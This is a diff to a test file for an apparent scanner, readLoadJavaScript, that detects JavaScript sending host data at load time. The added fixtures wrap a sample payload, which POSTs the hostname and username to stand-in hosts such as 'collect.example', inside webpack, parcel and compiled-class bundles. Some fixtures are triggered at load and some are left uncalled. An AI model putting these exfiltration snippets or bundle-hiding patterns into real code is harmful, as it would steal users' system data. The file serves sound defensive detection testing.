@@ -7,6 +7,8 @@ import { loadTimeText, readLoadJavaScript } from '../../src/checks/lib/load-code
 
 const HOST_DATA_SEND = "https.request({ hostname: 'collect.example', method: 'POST' }).end(JSON.stringify({ h: os.hostname(), u: os.userInfo().username }));";
 const HEAD = "const os = require('os');\nconst https = require('https');\n";
+/** HOST_DATA_SEND as one expression (the body of an arrow without braces). */
+const SEND_EXPRESSION = HOST_DATA_SEND.slice(0, -1);
 
 describe('readLoadJavaScript: findings at load', () => {
   test.each([
@@ -35,6 +37,29 @@ const webpack5 = (entry: number, payloadId: number): string =>
 /** A parcel 1 bundle (its prelude shortened): modules by id, each with its map of required paths to ids; the entry ids last. */
 const parcel1 = (entry: string, payloadId: string): string =>
   `parcelRequire = (function (modules, cache, entry, globalName) {\n  function newRequire(name, jumped) {\n    if (!cache[name]) {\n      var module = cache[name] = new newRequire.Module(name);\n      modules[name][0].call(module.exports, localRequire, module, module.exports, this);\n    }\n    return cache[name].exports;\n    function localRequire(x) { return newRequire(localRequire.resolve(x)); }\n    function resolve(x) { return modules[name][1][x] || x; }\n  }\n  function Module(moduleName) { this.id = moduleName; this.bundle = newRequire; this.exports = {}; }\n  newRequire.Module = Module;\n  for (var i = 0; i < entry.length; i++) { newRequire(entry[i]); }\n  return newRequire;\n})({"Focm":[function(require,module,exports) {\nvar x = require("./x");\n},{"./x":"${payloadId === 'b2' ? 'b2' : 'c3'}"}],"b2":[function(require,module,exports) {\n${HEAD}${HOST_DATA_SEND}\n},{}],"c3":[function(require,module,exports) {\nmodule.exports = 1;\n},{}]},{},["${entry}"], null)`;
+
+/** TypeScript's helper for async methods (its ES2017 output): the method's body is a generator handed to it. */
+const AWAITER = 'var __awaiter = (this && this.__awaiter) || function (thisArg, _arguments, P, generator) { return new (P || (P = Promise))(function (resolve, reject) { function step(result) { result.done ? resolve(result.value) : Promise.resolve(result.value).then((v) => step(generator.next(v))); } step((generator = generator.apply(thisArg, _arguments || [])).next()); }); };\n';
+/** A class as TypeScript compiles it to ES2017 (an async method) and exports it; `after`: what the module does next. */
+const tsClass = (after: string): string =>
+  `"use strict";\n${AWAITER}Object.defineProperty(exports, "__esModule", { value: true });\n${HEAD}class Stealer {\n  constructor(token) { this.token = token; }\n  run() { return __awaiter(this, void 0, void 0, function* () { ${HOST_DATA_SEND} }); }\n}\nexports.default = Stealer;\n${after}`;
+/** A class as TypeScript compiles it to ES5 (an IIFE, methods on the prototype), exported; `after`: what the module does next. */
+const es5Class = (after: string): string =>
+  `"use strict";\n${HEAD}var Stealer = /** @class */ (function () {\n  function Stealer(token) { this.token = token; }\n  Stealer.prototype.run = function () { ${HOST_DATA_SEND} };\n  return Stealer;\n}());\nexports.Stealer = Stealer;\n${after}`;
+
+/** A minified webpack 5 bundle whose modules call the loader by their own third parameter's name (`n`, not the loader's `r`); `start`: how the entry is run. */
+const webpack5Startup = (start: string): string =>
+  `(()=>{var e={7:e=>e.exports=1,9:(e,t,n)=>n(11),11:(e,t,n)=>{const h=require("https");h.request({hostname:"c.example",method:"POST"}).end(JSON.stringify({h:require("os").hostname()}))}},t={};function r(n){var o=t[n];if(void 0!==o)return o.exports;var i=t[n]={exports:{}};return e[n](i,i.exports,r),i.exports}r.O=(e,t,n)=>{};r.X=(e,t,n)=>n();${start}})();`;
+
+/** A parcel 2 bundle with scope hoisting (its prelude shortened): modules registered by id with parcelRequire's register; `after`: what the bundle's own code does. */
+const parcel2 = (after: string): string =>
+  `var $parcel$global = globalThis;\nvar parcelRequire = $parcel$global["parcelRequire94c2"];\nif (parcelRequire == null) { parcelRequire = function (id) { throw new Error(id); }; $parcel$global["parcelRequire94c2"] = parcelRequire; }\nvar parcelRegister = parcelRequire.register;\nparcelRegister("iZ3Qp", function (module, exports) {\n${HEAD}${HOST_DATA_SEND}\n});\nparcelRegister("aB1cD", function (module, exports) {\nmodule.exports = 1;\n});\n${after}`;
+/** The same minified: the require and its register under short names. */
+const parcel2Minified = (after: string): string =>
+  `var e=globalThis,t=e.parcelRequire94c2;null==t&&((t=function(e){throw Error(e)}).register=function(e,t){},e.parcelRequire94c2=t);var r=t.register;r("iZ3Qp",function(e,t){${HEAD}${HOST_DATA_SEND}}),r("aB1cD",function(e,t){e.exports=1});${after}`;
+/** A parcel 2 bundle without scope hoisting (its prelude shortened): parcel 1's module map, the entry ids and the global require's name last. */
+const parcel2Map = (entry: string, dep: string): string =>
+  `(function (modules, entry, mainEntry, parcelRequireName, globalName) {\n  var globalObject = typeof globalThis !== 'undefined' ? globalThis : {};\n  var cache = {};\n  function newRequire(name) {\n    if (!cache[name]) {\n      var module = (cache[name] = { exports: {} });\n      modules[name][0].call(module.exports, localRequire, module, module.exports, this);\n    }\n    return cache[name].exports;\n    function localRequire(x) { return newRequire(modules[name][1][x] || x); }\n  }\n  for (var i = 0; i < entry.length; i++) { newRequire(entry[i]); }\n  globalObject[parcelRequireName] = newRequire;\n})({"gLLPy":[function (require, module, exports, __globalThis) {\nvar x = require("./x");\n},{"./x":"${dep}"}],"b2":[function (require, module, exports, __globalThis) {\n${HEAD}${HOST_DATA_SEND}\n},{}],"c3":[function (require, module, exports, __globalThis) {\nmodule.exports = 1;\n},{}]},["${entry}"], "${entry}", "parcelRequire94c2")`;
 
 describe('readLoadJavaScript: the ways code is run at load', () => {
   test.each([
@@ -85,6 +110,25 @@ describe('readLoadJavaScript: the ways code is run at load', () => {
     ["a parcel 1 bundle's entry module", parcel1('b2', 'c3')],
     ["a module a parcel 1 bundle's entry requires", parcel1('Focm', 'b2')],
     ["an exported function called through exports['x']()", `${HEAD}exports.steal = function () { ${HOST_DATA_SEND} };\nexports['steal']();`],
+    ["a webpack 5 bundle's module required by the entry through the module's own loader parameter", webpack5Startup('module.exports=r(9);')],
+    ["a webpack 5 bundle's entry run by its loader's O helper once its chunks are in", webpack5Startup('var n=r.O(void 0,[736],(()=>r(11)));n=r.O(n);module.exports=n;')],
+    ["a webpack 5 bundle's entry run by its loader's X helper (startup entrypoint)", webpack5Startup('var n=r.X(0,[736],()=>r(9));module.exports=n;')],
+    ["a parcel 2 bundle's registered module its code requires (scope hoisting)", parcel2('parcelRequire("iZ3Qp");\nmodule.exports = 1;')],
+    ["a minified parcel 2 bundle's registered module its code requires", parcel2Minified('module.exports=t("iZ3Qp");')],
+    ["a module a parcel 2 bundle's entry requires (no scope hoisting)", parcel2Map('gLLPy', 'b2')],
+    ["a parcel 2 bundle's entry module (no scope hoisting)", parcel2Map('b2', 'c3')],
+    ['a method of a class compiled to ES5, made and called at load', es5Class('new Stealer(process.env.TOKEN).run();')],
+    ['an async method of a class compiled by TypeScript, made and called at load', tsClass('new Stealer(process.env.TOKEN).run();')],
+    ['host data sent at the top level beside an exported class nobody makes', tsClass(HOST_DATA_SEND)],
+    ['host data sent at the top level beside an exported ES5 class nobody makes', es5Class(HOST_DATA_SEND)],
+    ['an arrow with an expression body bound to a name and called', `${HEAD}const steal = () => ${SEND_EXPRESSION};\nsteal();`],
+    ['an arrow of one parameter with an expression body assigned to exports and called', `${HEAD}exports.steal = (a) => ${SEND_EXPRESSION};\nexports.steal(1);`],
+    ['an arrow with an expression body handed to a timer', `${HEAD}setTimeout(() => ${SEND_EXPRESSION}, 10);`],
+    ['an arrow with an expression body called at once', `${HEAD}(() => ${SEND_EXPRESSION})();`],
+    ['an async arrow with an expression body called at once through .call', `${HEAD}(async () => ${SEND_EXPRESSION}).call(this);`],
+    ['an arrow with an expression body that goes on to the next line, called', `${HEAD}const steal = () =>\n  ${SEND_EXPRESSION}\nsteal()`],
+    ['host data sent on the line after an arrow with an expression body, no semicolons', `${HEAD}const noop = () => null\n${HOST_DATA_SEND.slice(0, -1)}\nmodule.exports = noop`],
+    ['host data sent after an exported arrow with an expression body, on the same line', `${HEAD}export const noop = (a) => a; ${HOST_DATA_SEND}`],
   ])('%s', (_name, code) => {
     expect(readLoadJavaScript(code)).toEqual(['exfiltration']);
   });
@@ -128,6 +172,24 @@ describe('readLoadJavaScript: what a library does when asked is not a finding', 
     ["a minified esbuild bundle's module whose wrapper nobody calls", `${HEAD}var c=(e,t)=>()=>(t||e((t={exports:{}}).exports,t),t.exports);var f=c((e,t)=>{${HOST_DATA_SEND}});module.exports=1;`],
     ['a function wrapped by a memoizer and exported, not called', `${HEAD}const report = memoize(() => { ${HOST_DATA_SEND} });\nmodule.exports = report;`],
     ['a declared function bound and exported, not called', `${HEAD}function steal() { ${HOST_DATA_SEND} }\nmodule.exports = steal.bind(null);`],
+    ["a parcel 2 bundle's registered module that nothing requires", parcel2('module.exports = parcelRequire("aB1cD");')],
+    ["a parcel 2 bundle's registered module required only inside an exported function", parcel2('module.exports = function () { return parcelRequire("iZ3Qp"); };')],
+    ["a minified parcel 2 bundle's registered module that nothing requires", parcel2Minified('module.exports=t("aB1cD");')],
+    ["a parcel 2 bundle's module that its entry does not require (no scope hoisting)", parcel2Map('gLLPy', 'c3')],
+    ['a class compiled by TypeScript (async method) exported and never made', tsClass('')],
+    ['a class compiled to ES5 exported and never made', es5Class('')],
+    ['a class compiled to ES5 made at load whose sending method nobody calls', es5Class('exports.client = new Stealer(process.env.TOKEN);')],
+    ["a webpack 5 bundle whose entry (run by its loader) requires none of the payload's chain", webpack5Startup('var n=r.O(void 0,[736],(()=>r(7)));module.exports=n;')],
+    ["a webpack 5 bundle whose O helper is handed a function inside a function nobody calls", webpack5Startup('exports.later=()=>{r.O(0,[1],()=>r(9))};')],
+    ["a webpack 5 chunk file's modules, read alone (its runtime asks for them by id when it needs them)", `exports.id=179,exports.ids=[179],exports.modules={56:(e,t,r)=>{${HEAD}${HOST_DATA_SEND}}};`],
+    ["a webpack 5 chunk's modules pushed for the page's runtime", `(self.webpackChunkx=self.webpackChunkx||[]).push([[179],{56:(e,t,r)=>{${HEAD}${HOST_DATA_SEND}}}]);`],
+    ['an arrow with an expression body bound to a name and exported, not called', `${HEAD}const report = () => ${SEND_EXPRESSION};\nmodule.exports = { report };`],
+    ['an exported arrow with an expression body (export const f = (a) => …), not called', `${HEAD}export const report = (a) => ${SEND_EXPRESSION};`],
+    ['an arrow of one parameter with an expression body assigned to exports, not called', `${HEAD}exports.report = a => ${SEND_EXPRESSION};`],
+    ['arrows with expression bodies as the values of an exported object', `${HEAD}module.exports = { report: () => ${SEND_EXPRESSION}, name: (a) => a };`],
+    ['an arrow with an expression body, no semicolons, its expression going on to the next line', `${HEAD}const report = () =>\n  ${SEND_EXPRESSION}\nmodule.exports = report`],
+    ['a class field holding an arrow with an expression body, the class never made', `${HEAD}class Client { send = () => ${SEND_EXPRESSION}; }\nmodule.exports = Client;`],
+    ['an arrow with an expression body handed to a call that keeps it (a getter defined)', `${HEAD}Object.defineProperty(exports, 'report', { get: () => ${SEND_EXPRESSION} });`],
   ])('%s', (_name, code) => {
     expect(readLoadJavaScript(code)).toEqual([]);
   });
